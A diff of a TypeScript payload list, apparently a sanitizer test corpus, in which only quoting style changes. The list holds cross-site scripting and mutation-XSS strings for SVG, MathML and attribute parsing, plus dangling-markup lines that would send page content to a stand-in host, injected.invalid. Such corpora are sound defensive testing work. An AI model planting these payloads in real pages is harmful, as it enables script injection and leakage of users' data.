@@ -1,6 +1,6 @@
 /** Texts that one parser reads differently from another, or the second time differently from the first. */
 export const PARSING_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
-  'SVG': [
+  SVG: [
     '<svg onload=alert(1)>',
     '<svg><script>alert(1)</script></svg>',
     '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
@@ -22,7 +22,7 @@ export const PARSING_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>',
     '<svg><p><style><!--</style><img title="--></style><img src=x onerror=alert(1)>">',
   ],
-  'MathML': [
+  MathML: [
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
     '<math href="javascript:alert(1)">x</math>',
     '<math><mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">x</mi></math>',
@@ -96,7 +96,7 @@ export const PARSING_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     '<p class="a" class="b" onclick=alert(1) ONCLICK=alert(2)>x</p>',
     '<p ""onclick=alert(1)>x</p>',
     '<p/"><img src=x onerror=alert(1)>',
-    '<p title=\'"><img src=x onerror=alert(1)>\'>x</p>',
+    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
     '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
     '<a href="https://ada.example/&quot; onclick=&quot;alert(1)">x</a>',
     "<a href='https://ada.example/&apos; onclick=alert(1) x=&apos;'>x</a>",
@@ -106,7 +106,7 @@ export const PARSING_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     '<p =onclick=alert(1)>x</p><p\u00a0onclick=alert(1)>x</p>',
     '<p x="\n>\n<img src=x onerror=alert(1)>\n">x</p>',
     '<a href="https://ada.example/?<img src=x onerror=alert(1)>">x</a>',
-    '<img src=\'//injected.invalid/?', // What follows would be sent along.
+    "<img src='//injected.invalid/?", // What follows would be sent along.
     '<a href="//injected.invalid/?',
     '<p title="',
     '<p title=x onclick=alert(1)',
